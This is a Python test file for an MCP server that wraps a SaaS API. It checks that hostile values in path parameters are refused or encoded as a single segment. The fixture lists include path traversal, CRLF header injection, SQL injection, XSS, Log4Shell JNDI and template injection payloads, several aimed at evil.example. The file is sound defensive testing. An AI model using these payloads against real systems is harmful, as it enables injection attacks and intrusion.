"""Hostile text in every path parameter of every operation: it is refused, or becomes one segment of the right route."""

from __future__ import annotations

from collections.abc import Iterable, Iterator
from urllib.parse import unquote

import httpx2
import pytest

from saasus_mcp.catalog import Catalogue, Operation
from saasus_mcp.common.json_path import InvalidArguments
from saasus_mcp.permissions.policy.presets import UnsafeAllowAllPolicy
from saasus_mcp.saasus.arguments import check_arguments
from saasus_mcp.saasus.client import ApiClient
from saasus_mcp.saasus.request import build_request
from saasus_mcp.saasus.tool_answer import ToolAnswer
from saasus_mcp.server.pipeline.call import Call
from saasus_mcp.store.store import Store
from tests.support.arguments import complete_arguments
from tests.support.pipeline import CREDENTIALS, PRINCIPAL, StubApi, build_pipeline, match_operation
from tests.support.variants import sample_operations

NEVER_SENT = [
    "",
    " ",
    "\t",
    "\N{IDEOGRAPHIC SPACE}",
    ".",
    "..",
    "../..",
    "../plans/reset",
    "./t-1",
    "t-1/..",
    "a/../../tenants",
    "..\\..",
    "a\\..\\b",
    "/..",
    "t-1\x00",
    "t-1\r\nX-Injected: yes",
    "t-1\n",
    "\x1b[2J",
    "t-1\x7f",
    "t-1\x85",
    "half a character \ud800",
    "\udc00",
]
ONE_SEGMENT = [
    "...",
    ".hidden",
    "..;",
    "..;/plans",
    "%2e%2e",
    "%2e%2e%2f",
    "%252e%252e",
    "%2F",
    "%5c..%5c",
    "%00",
    "%0d%0aX-Injected:%20yes",
    "%zz",
    "%",
    "a/b",
    "/",
    "//evil.example",
    "https://evil.example/",
    "a\\b",
    "#",
    "a#fragment",
    "?",
    "a?x=1&y=2",
    "a&b=c",
    ";",
    "t-1;jsessionid=1",
    ":",
    "@evil.example",
    "a b",
    " a ",
    "+",
    "*",
    "~root",
    "'; DROP TABLE tenants; --",
    '"><script>alert(1)</script>',
    "${jndi:ldap://evil.example}",
    "{tenant_id}",
    "{{7*7}}",
    "[0]",
    "株式会社",
    "é",
    "é",
    "a\u2028b",
    "a\u2029b",
    "\u202egnp.exe",
    "\u2066abc\u2069",
    "a\u200bb",
    "\ufeff",
    "\uff0e\uff0e",
    "\uff0f",
    "\u2215",
    "\N{PILE OF POO}",
    "true",
    "null",
    "-1",
    "0",
    "x" * 4096,
    "secret",
]


def literals(catalogue: Catalogue, operation: Operation, name: str) -> set[str]:
    """Return every fixed segment that a route has in the place of this parameter, and three common ones."""
    at = operation.path.split("/").index("{" + name + "}")
    routes = [other.path.split("/") for other in catalogue]
    return {"all", "count", "search"} | {route[at] for route in routes if len(route) > at and route[at][:1] != "{"}


def targets(operations: Iterable[Operation]) -> Iterator[tuple[Operation, str]]:
    for operation in operations:
        for name in operation.path_parameters:
            yield operation, name


def text_targets(operations: Iterable[Operation]) -> Iterator[tuple[Operation, str]]:
    """Return the parameters that take any text. Numbers and dates are refused by their type."""
    for operation, name in targets(operations):
        schema = operation.input_schema["properties"][name]
        if schema["type"] == "string" and not {"enum", "format", "pattern"} & schema.keys():
            yield operation, name


async def requests_for(
    client: ApiClient, api: StubApi, operation: Operation, name: str, value: str
) -> list[httpx2.Request]:
    """Return the requests of a call with this value. A call that sends nothing names the field."""
    api.sent.clear()
    request, blamed = None, name
    try:
        request = build_request(operation, check_arguments(operation, {**complete_arguments(operation), name: value}))
    except InvalidArguments as refusal:
        blamed = refusal.field
    assert blamed == name
    if request is not None:
        await client.send(operation, request, "trace")
    return api.sent


def find_route_error(catalogue: Catalogue, request: httpx2.Request, operation: Operation, name: str, value: str) -> str:
    """Return how a request misses its route, or an empty text."""
    raw = request.url.raw_path.decode("ascii").split("?")[0]
    segments, template = raw.split("/"), operation.path.split("/")
    if len(segments) != len(template):
        return f"{raw}: another number of segments"
    if unquote(segments[template.index("{" + name + "}")]) != value:
        return f"{raw}: another value"
    if request.url.host != "api.saasus.io" or request.method != operation.method:
        return f"{request.method} {request.url}: another place"
    return "" if match_operation(catalogue, request) is operation else f"{raw}: another route"


@pytest.fixture
def api(catalogue: Catalogue) -> StubApi:
    return StubApi(catalogue)


@pytest.fixture
def client(api: StubApi) -> ApiClient:
    return ApiClient(CREDENTIALS, transport=api.transport())


def test_the_corpus_is_large_and_reaches_every_path_parameter(catalogue: Catalogue) -> None:
    assert len(NEVER_SENT) + len(ONE_SEGMENT) >= 75
    assert len(list(targets(catalogue))) == 113
    assert len(list(text_targets(catalogue))) >= 95


@pytest.mark.slow
async def test_a_value_that_could_leave_its_path_segment_is_refused_everywhere(
    catalogue: Catalogue, api: StubApi, store: Store
) -> None:
    behind = build_pipeline(api, store, UnsafeAllowAllPolicy())
    for operation, name in targets(sample_operations(catalogue, "could leave its path segment")):
        for value in NEVER_SENT:
            given = await behind.run(Call(operation.tool, {**complete_arguments(operation), name: value}, PRINCIPAL))
            assert isinstance(given, ToolAnswer)
            assert (given.ok, given.applied) == (False, "not_applied")
            assert given.text.startswith(f"{name}: "), (operation.key, name, value, given.text)
    assert api.sent == []


@pytest.mark.slow
async def test_any_other_text_is_one_encoded_segment_of_the_right_route(
    catalogue: Catalogue, api: StubApi, client: ApiClient
) -> None:
    failures: list[tuple[str, str, str]] = []
    for operation, name in text_targets(sample_operations(catalogue, "one encoded segment")):
        for value in ONE_SEGMENT:
            sent = await requests_for(client, api, operation, name, value)
            missed = [find_route_error(catalogue, request, operation, name, value) for request in sent]
            if missed != [""]:
                failures.append((operation.key, value[:40], str(missed)))
    assert failures == []


async def test_no_text_reaches_another_place_through_a_parameter_with_a_form(
    catalogue: Catalogue, api: StubApi, client: ApiClient
) -> None:
    free = set(text_targets(catalogue))
    for operation, name in targets(catalogue):
        if (operation, name) not in free:
            for value in ONE_SEGMENT:
                for request in await requests_for(client, api, operation, name, value):
                    assert find_route_error(catalogue, request, operation, name, value) == "", (operation.key, value)


@pytest.mark.slow
async def test_no_id_is_taken_for_another_route(catalogue: Catalogue, api: StubApi, client: ApiClient) -> None:
    refused = set()
    known = ("auth.GetSaasUser", "auth.GetTenantUsers")
    operations = {*sample_operations(catalogue, "taken for another route"), *map(catalogue.find, known)}
    for operation, name in text_targets(operations):
        for value in literals(catalogue, operation, name):
            sent = await requests_for(client, api, operation, name, value)
            if not sent:
                refused.add((operation.key, value))
            for request in sent:
                assert find_route_error(catalogue, request, operation, name, value) == "", (operation.key, value)
    assert {("auth.GetSaasUser", "count"), ("auth.GetSaasUser", "search"), ("auth.GetTenantUsers", "all")} <= refused
    assert len(refused) < 25, "an id is refused only where it would reach another route"


@pytest.mark.slow
async def test_a_value_longer_than_any_url_is_refused_before_anything_happens(
    catalogue: Catalogue, api: StubApi, store: Store
) -> None:
    behind = build_pipeline(api, store, UnsafeAllowAllPolicy())
    failures = {}
    for operation, name in text_targets(sample_operations(catalogue, "longer than any url")):
        given = await behind.run(
            Call(operation.tool, {**complete_arguments(operation), name: "\N{SNOWMAN}" * 30_000}, PRINCIPAL)
        )
        assert isinstance(given, ToolAnswer)
        if given.ok or given.applied != "not_applied" or not given.text.startswith(f"{name}: "):
            failures[operation.key] = given.text[:200]
    assert failures == {}
    assert api.sent == []
